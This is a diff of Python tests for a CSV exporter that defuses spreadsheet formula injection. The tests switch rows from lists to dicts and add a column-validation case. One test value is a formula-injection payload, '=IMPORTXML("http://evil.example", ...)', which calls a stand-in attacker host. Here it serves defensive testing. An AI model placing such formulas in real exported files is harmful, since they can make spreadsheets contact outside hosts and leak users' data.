@@ -82,18 +82,19 @@ def test_anything_else_is_text(value: object, shown: str) -> None:
 
 
 def test_a_row_is_defused_column_by_column() -> None:
-    values = [-3 if key in NUMERIC_CSV_COLUMNS else f"-{key}" for key, _ in CSV_COLUMNS]
+    values = {key: -3 if key in NUMERIC_CSV_COLUMNS else f"-{key}" for key, _ in CSV_COLUMNS}
     row = csv_row(values)
-    for (key, _), value, written in zip(CSV_COLUMNS, values, row, strict=True):
-        assert written == (value if key in NUMERIC_CSV_COLUMNS else "'" + value), key
+    for (key, _), written in zip(CSV_COLUMNS, row, strict=True):
+        assert written == (values[key] if key in NUMERIC_CSV_COLUMNS else "'" + values[key]), key
     with pytest.raises(ValueError):
-        csv_row(values[:-1])  # a row must fill every column
+        csv_row({key: value for key, value in values.items() if key != "free"})  # a row must fill every column
+    with pytest.raises(ValueError):
+        csv_row({**values, "transport": ""})  # and only the columns there are
 
 
 def test_quoted_cells_round_trip_in_a_utf8_crlf_file_with_bom() -> None:
     hostile = "=IMPORTXML(\"http://evil.example\", \"//a\")，含,逗号\"引号\"\n第二行"
-    values = [hostile if key == "title" else "" for key, _ in CSV_COLUMNS]
-    values[[key for key, _ in CSV_COLUMNS].index("attendance")] = -12.5
+    values = {key: hostile if key == "title" else "" for key, _ in CSV_COLUMNS} | {"attendance": -12.5}
     line = io.StringIO()
     csv.writer(line, lineterminator="\r\n").writerow(csv_row(values))
     data = csv_document([[("2026-12-12\t09:00\tx", line.getvalue())]])
@@ -169,7 +170,7 @@ HOSTILE_TEXTS = [
 def test_calc_shows_defused_text_as_text_and_numbers_as_numbers(tmp_path: Path) -> None:
     lines = []
     for number, text in enumerate(HOSTILE_TEXTS):
-        values = [[-3, -12.5][number % 2] if key in NUMERIC_CSV_COLUMNS else text for key, _ in CSV_COLUMNS]
+        values = {key: [-3, -12.5][number % 2] if key in NUMERIC_CSV_COLUMNS else text for key, _ in CSV_COLUMNS}
         line = io.StringIO()
         csv.writer(line, lineterminator="\r\n").writerow(csv_row(values))
         lines.append((f"{number:03d}", line.getvalue()))
